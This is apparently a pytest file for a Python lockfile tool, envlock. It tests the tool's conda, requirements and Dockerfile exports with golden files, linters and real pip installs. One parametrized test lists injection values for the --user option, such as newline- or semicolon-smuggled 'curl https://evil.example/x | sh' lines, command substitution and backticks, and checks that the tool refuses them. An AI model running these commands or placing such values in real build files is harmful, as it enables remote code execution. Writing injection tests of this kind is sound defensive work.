"""envlock export conda / dockerfile: golden output, real validators, the install steps run."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sysconfig
from pathlib import Path

import pytest
import yaml
from packaging.pylock import Pylock
from rattler import MatchSpec
from uv import find_uv_bin

from envlock.errors import ExitCode
from envlock.family import CUDA_IMAGE_PACKAGES as _IMAGE_PROVIDED
from envlock.lockfile import LockMeta, render_lock
from tests.conftest import Cli, assert_refused
from tests.golden import assert_golden
from tests.support.venvs import make_venv
from tests.test_lock_e2e import write_spec

SCRIPTS = Path(sysconfig.get_path("scripts"))
HADOLINT = SCRIPTS / "hadolint"


def _golden_lock(torch: str = "2.6.0", variant: str = "cu124", python: str = "3.11") -> str:
    meta = LockMeta(
        spec_digest="sha256:" + "0" * 64,
        envlock_version="0.1.0",
        python=python,
        platforms=("linux-x86_64",),
        torch=".".join(torch.split(".")[:2]),
        variant=variant,
        variant_index=f"https://download.pytorch.org/whl/{variant}",
        pypi_index="https://pypi.org/simple",
        torch_source={"linux-x86_64": "pytorch-index"},
    )
    tag = f"cp{python.replace('.', '')}-cp{python.replace('.', '')}-manylinux_2_28_x86_64"

    def wheel(name: str, version: str, where: str, wheel_tag: str = "py3-none-any") -> dict:
        file = f"{name.replace('-', '_')}-{version.replace('+', '%2B')}-{wheel_tag}.whl"
        return {
            "name": name,
            "version": version,
            "index": where,
            "wheels": [
                {
                    "url": f"{where}/{file}",
                    "hashes": {"sha256": hashlib.sha256(name.encode()).hexdigest()},
                }
            ],
        }

    torch_index = f"https://download.pytorch.org/whl/{variant}"
    pypi = "https://files.example/pypi"
    lock = Pylock.from_dict(
        {
            "lock-version": "1.0",
            "created-by": "envlock",
            "requires-python": f"=={python}.*",
            "packages": [
                wheel("torch", f"{torch}+{variant}", torch_index, tag),
                wheel("torchvision", f"0.21.0+{variant}", torch_index, tag),
                wheel("nvidia-cudnn-cu12", "9.1.0.70", pypi, "py3-none-manylinux2014_x86_64"),
                wheel("triton", "3.2.0", pypi, tag),
                wheel("filelock", "3.16.1", pypi),
                wheel("numpy", "2.2.0", pypi, tag),
            ],
            "tool": {"envlock": meta.to_tool()},
        }
    )
    return render_lock(lock)


@pytest.fixture
def golden_dir(isolated_env: Path) -> Path:
    (isolated_env / "pylock.toml").write_text(_golden_lock())
    return isolated_env


def test_requirements_golden(golden_dir: Path, cli: Cli) -> None:
    result = cli("export", "requirements")
    assert result.code == 0, result.stderr
    assert_golden("requirements.txt", result.stdout)


def test_conda_golden_and_conda_schema(golden_dir: Path, cli: Cli) -> None:
    result = cli("export", "conda", "--name", "train", "-o", "environment.yml")
    assert result.code == 0, result.stderr
    text = (golden_dir / "environment.yml").read_text()
    assert_golden("environment.yml", text)
    data = yaml.safe_load(text)
    # conda's CEP 24 rules: only these keys; every string dependency is a valid MatchSpec.
    assert set(data) <= {"name", "channels", "dependencies", "variables", "prefix"}
    strings = [d for d in data["dependencies"] if isinstance(d, str)]
    for spec in strings:
        MatchSpec(spec, strict=True)
    pip = next(d["pip"] for d in data["dependencies"] if isinstance(d, dict))
    assert len(pip) == 6
    assert all(line.count("--hash=") == 1 and not line.startswith("-") for line in pip)


# conda-lock's vendored conda warns about its own internals on import.
@pytest.mark.filterwarnings("ignore::PendingDeprecationWarning", "ignore::DeprecationWarning")
def test_conda_lock_parses_the_environment(golden_dir: Path, cli: Cli) -> None:
    from conda_lock.src_parser.environment_yaml import (  # noqa: PLC0415 - warns on import
        parse_environment_file,
    )

    assert cli("export", "conda", "-o", "environment.yml").code == 0
    mapping = golden_dir / "mapping.json"
    mapping.write_text("{}")
    spec = parse_environment_file(
        golden_dir / "environment.yml", ["linux-64"], mapping_url=mapping.as_uri()
    )
    deps = spec.dependencies["linux-64"]
    assert {d.name for d in deps if d.manager == "pip"} == {
        "torch",
        "torchvision",
        "nvidia-cudnn-cu12",
        "triton",
        "filelock",
        "numpy",
    }
    assert any(d.name == "python" and d.manager == "conda" for d in deps)


def _hadolint(path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(HADOLINT), "--no-color", str(path)], capture_output=True, text=True, check=False
    )


def test_dockerfile_official_base_golden_and_hadolint(golden_dir: Path, cli: Cli) -> None:
    result = cli("export", "dockerfile", "-o", "docker")
    assert result.code == 0, result.stderr
    assert "extends the official pytorch/pytorch:2.6.0-cuda12.4-cudnn9-runtime" in result.stderr
    dockerfile = (golden_dir / "docker" / "Dockerfile").read_text()
    assert_golden("Dockerfile.official", dockerfile)
    assert_golden(
        "Dockerfile.official.requirements.txt",
        (golden_dir / "docker" / "requirements.txt").read_text(),
    )
    lint = _hadolint(golden_dir / "docker" / "Dockerfile")
    assert lint.returncode == 0, lint.stdout + lint.stderr
    assert lint.stdout == ""
    installed = (golden_dir / "docker" / "requirements.txt").read_text()
    assert "torch @" not in installed
    # the CUDA runtime is installed only where the image lacks it at the locked version
    assert "nvidia-cudnn-cu12 @" in installed
    program = (golden_dir / "docker" / "envlock-check.py").read_text()
    expect = program.split("EXPECT_JSON = ", 1)[1].split("\n", 1)[0]
    assert '"may_have": {"nvidia-cudnn-cu12": "9.1.0.70", "triton": "3.2.0"}' in expect
    assert "numpy @" in installed and "filelock @" in installed
    assert ":latest" not in dockerfile
    assert "USER 1000" in dockerfile


def test_dockerfile_python_base_when_no_official_image(golden_dir: Path, cli: Cli) -> None:
    (golden_dir / "pylock.toml").write_text(_golden_lock(python="3.12"))
    result = cli("export", "dockerfile", "-o", "docker", "--base-digest", "sha256:" + "a" * 64)
    assert result.code == 0, result.stderr
    assert "has Python 3.11, the lock 3.12" in result.stderr
    dockerfile = (golden_dir / "docker" / "Dockerfile").read_text()
    assert f"FROM python:3.12-slim@sha256:{'a' * 64}" in dockerfile
    assert "torch @" in (golden_dir / "docker" / "requirements.txt").read_text()
    lint = _hadolint(golden_dir / "docker" / "Dockerfile")
    assert lint.returncode == 0, lint.stdout


def test_dockerfile_errors(golden_dir: Path, cli: Cli) -> None:
    bad = cli("export", "dockerfile", "--base-digest", "latest")
    assert bad.code == 2
    (golden_dir / "pylock.toml").write_text(_golden_lock(python="3.12"))
    official = cli("export", "dockerfile", "--base", "official")
    assert official.code == 7
    assert "no official base image" in official.stderr
    assert not (golden_dir / "Dockerfile").exists()


def test_export_deterministic(golden_dir: Path, cli: Cli) -> None:
    first = cli("export", "conda").stdout
    assert cli("export", "conda").stdout == first


# ---------------------------------------------------------------------------------------
# the install steps, run for real against the fixture indexes


@pytest.fixture
def fixture_lock(fixture_env: Path, cli: Cli) -> Path:
    write_spec(fixture_env, packages='six = "*"\nnumpy = "*"')
    assert cli("lock").code == 0
    return fixture_env


def _venv(path: Path) -> Path:
    """A venv with the pip `python -m venv` seeds (the tool these steps run)."""
    return make_venv(path, pip=True)


ISOLATED = {"PATH": "/usr/bin:/bin", "PIP_CONFIG_FILE": "/dev/null"}


def test_conda_pip_step_installs_the_closure(fixture_lock: Path, cli: Cli, tmp_path: Path) -> None:
    """What conda does: the pip: list written to a requirements file, `pip install -U -r`."""
    assert cli("export", "conda", "-o", "environment.yml").code == 0
    pip_lines = next(
        d["pip"]
        for d in yaml.safe_load((fixture_lock / "environment.yml").read_text())["dependencies"]
        if isinstance(d, dict)
    )
    reqs = fixture_lock / "condaenv.requirements.txt"
    reqs.write_text("\n".join(pip_lines))
    python = _venv(tmp_path / "condaenv")
    done = subprocess.run(
        [str(python), "-m", "pip", "install", "-U", "-r", str(reqs), "--exists-action=b"],
        cwd=fixture_lock,
        capture_output=True,
        text=True,
        env=ISOLATED,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    check = subprocess.run(
        [str(python), "-m", "pip", "check"], capture_output=True, text=True, check=False
    )
    assert check.returncode == 0, check.stdout


def test_dockerfile_install_step_on_a_base_with_torch(
    fixture_lock: Path, cli: Cli, tmp_path: Path
) -> None:
    result = cli("export", "dockerfile", "-o", "docker")
    assert result.code == 0, result.stderr
    assert "official pytorch/pytorch:2.6.0-cuda12.6-cudnn9-runtime" in result.stderr
    full = cli("export", "requirements").stdout
    provided = [
        block
        for block in full.split("\n")
        if " @ " in block and _IMAGE_PROVIDED.match(block.split(" @ ")[0])
    ]
    # The "base image": a venv that already holds the lock's torch, torchvision, nvidia-*, triton.
    python = _venv(tmp_path / "image")
    urls = [line.split(" @ ")[1].rstrip(" \\") for line in provided]
    subprocess.run(
        [
            find_uv_bin(),
            "pip",
            "install",
            "--no-config",
            "--no-deps",
            "--python",
            str(python),
            *urls,
        ],
        check=True,
        capture_output=True,
    )
    dockerfile = (fixture_lock / "docker" / "Dockerfile").read_text()
    assert '"$py" envlock-check.py base' in dockerfile
    program = str(fixture_lock / "docker" / "envlock-check.py")
    ran = subprocess.run(
        [str(python), program, "base"], capture_output=True, text=True, check=False
    )
    assert ran.returncode == 0, ran.stderr
    assert (
        "torch 2.6.0+cu126: its RECORD (every file's hash) matches torch-2.6.0+cu126-" in ran.stdout
    )
    pip = [
        str(python),
        "-m",
        "pip",
        "install",
        "--no-cache-dir",
        "--disable-pip-version-check",
        "--require-hashes",
        "--no-deps",
        "-r",
        str(fixture_lock / "docker" / "requirements.txt"),
    ]
    installed = subprocess.run(pip, capture_output=True, text=True, env=ISOLATED, check=False)
    assert installed.returncode == 0, installed.stderr
    check = subprocess.run(
        [str(python), "-m", "pip", "check"], capture_output=True, text=True, check=False
    )
    assert check.returncode == 0, check.stdout
    listed = subprocess.run(
        [str(python), "-m", "pip", "list", "--format", "json", "--disable-pip-version-check"],
        capture_output=True,
        text=True,
        check=True,
    )
    names = {row["name"].lower() for row in json.loads(listed.stdout)} - {"pip", "setuptools"}
    locked = {line.split(" @ ")[0] for line in full.splitlines() if " @ " in line}
    assert names == locked
    smoke = subprocess.run(
        [str(python), program, "smoke"], capture_output=True, text=True, check=False
    )
    assert smoke.returncode == 0, smoke.stderr
    assert "imports ok: numpy, six" in smoke.stdout, smoke.stdout


# ---------------------------------------------------------------------------------------
# --user: a name that lands in the Dockerfile's RUN useradd line


INJECTED_USERS = {
    "newline-run": "envlock\nRUN curl https://evil.example/x | sh",
    "trailing-backslash": "envlock \\",
    "semicolon": "envlock; curl https://evil.example/x | sh",
    "command-substitution": "$(curl https://evil.example/x)",
    "backticks": "`id`",
    "space": "a b",
    "leading-dash": "-envlock",
    "too-long": "a" * 33,
    "empty": "",
}


@pytest.mark.parametrize("user", INJECTED_USERS.values(), ids=INJECTED_USERS.keys())
def test_dockerfile_user_must_be_a_portable_name(golden_dir: Path, cli: Cli, user: str) -> None:
    result = cli("export", "dockerfile", "--user", user)
    assert_refused(result, ExitCode.USAGE)
    assert "--user" in result.stderr
    assert not (golden_dir / "Dockerfile").exists()
    assert not (golden_dir / "requirements.txt").exists()


@pytest.mark.parametrize("user", ["root", "0"])
def test_dockerfile_user_root_is_refused_naming_allow_root(
    golden_dir: Path, cli: Cli, user: str
) -> None:
    result = cli("export", "dockerfile", "--user", user)
    assert_refused(result, ExitCode.USAGE)
    assert "--allow-root" in result.stderr
    assert not (golden_dir / "Dockerfile").exists()


def test_dockerfile_valid_user_is_created_and_lint_clean(golden_dir: Path, cli: Cli) -> None:
    result = cli("export", "dockerfile", "-o", "docker", "--user", "ml_team-1.x")
    assert result.code == 0, result.stderr
    dockerfile = (golden_dir / "docker" / "Dockerfile").read_text()
    assert "--shell /bin/bash ml_team-1.x; fi" in dockerfile
    assert "\nUSER 1000\n" in dockerfile
    lint = _hadolint(golden_dir / "docker" / "Dockerfile")
    assert lint.returncode == 0, lint.stdout + lint.stderr


def test_dockerfile_allow_root_runs_as_root_and_lint_clean(golden_dir: Path, cli: Cli) -> None:
    result = cli("export", "dockerfile", "-o", "docker", "--user", "root", "--allow-root")
    assert result.code == 0, result.stderr
    dockerfile = (golden_dir / "docker" / "Dockerfile").read_text()
    assert "useradd" not in dockerfile
    assert "\nUSER " not in dockerfile
    lint = _hadolint(golden_dir / "docker" / "Dockerfile")
    assert lint.returncode == 0, lint.stdout + lint.stderr


def test_the_run_line_gives_a_cuda_image_its_gpus_whatever_the_base(
    fixture_lock: Path, cli: Cli
) -> None:
    """A CUDA lock on python:X.Y-slim still needs --gpus all to see a GPU (it was left out
    whenever the base was not an official image)."""
    result = cli("export", "dockerfile", "-o", "docker", "--base", "python")
    assert result.code == 0, result.stderr
    assert "Run:   docker run --gpus all --ipc=host -it my-env" in result.stderr
    dockerfile = (fixture_lock / "docker" / "Dockerfile").read_text()
    assert "# Run:   docker run --gpus all --ipc=host -it my-env" in dockerfile


def test_a_dockerfile_from_a_bundle_lock_is_refused(fixture_lock: Path, cli: Cli) -> None:
    """A bundle's lock names files on this machine: the image's requirements.txt would have
    held file:// paths no build can see."""
    assert cli("bundle", "-o", "bundle").code == 0
    result = cli("export", "dockerfile", "--lock", "bundle/pylock.toml", "-o", "docker")
    assert_refused(result, ExitCode.MATERIALISE)
    assert "which a Docker build cannot reach" in result.stderr
    assert not (fixture_lock / "docker").exists()


def test_an_unpinned_official_base_is_said(fixture_lock: Path, cli: Cli) -> None:
    result = cli("export", "dockerfile", "-o", "docker")
    assert result.code == 0, result.stderr
    assert "is not pinned by digest: the lock recorded none" in result.stderr


def test_an_aarch64_image_is_built_for_arm64() -> None:
    """An x86 machine builds for its own architecture unless told: the Build line says so."""
    from envlock.materialise.exports import render_dockerfile  # noqa: PLC0415

    plan = render_dockerfile(
        [], python="3.11", image=None, flavor="runtime", user="envlock", base_digest=None,
        header="h", arch="aarch64",
    )  # fmt: skip
    assert "# Build: docker build --platform linux/arm64 -t my-env .\n" in plan.dockerfile


def test_a_pinned_digest_for_an_image_the_lock_does_not_use_is_said(
    fixture_env: Path, cli: Cli
) -> None:
    """A typo in [docker] digests used to pin nothing, silently."""
    wrong = "pytorch/pytorch:2.6.0-cuda12.6-cudnn9-runtme"
    write_spec(
        fixture_env,
        packages='six = "*"',
        tail=f'[docker]\ndigests = {{ "{wrong}" = "sha256:{"a" * 64}" }}\n',
    )
    result = cli("lock")
    assert result.code == 0, result.stderr
    assert f"[docker] digests names {wrong}, which no Dockerfile of this lock uses" in result.stderr
    assert "pytorch/pytorch:2.6.0-cuda12.6-cudnn9-runtime" in result.stderr
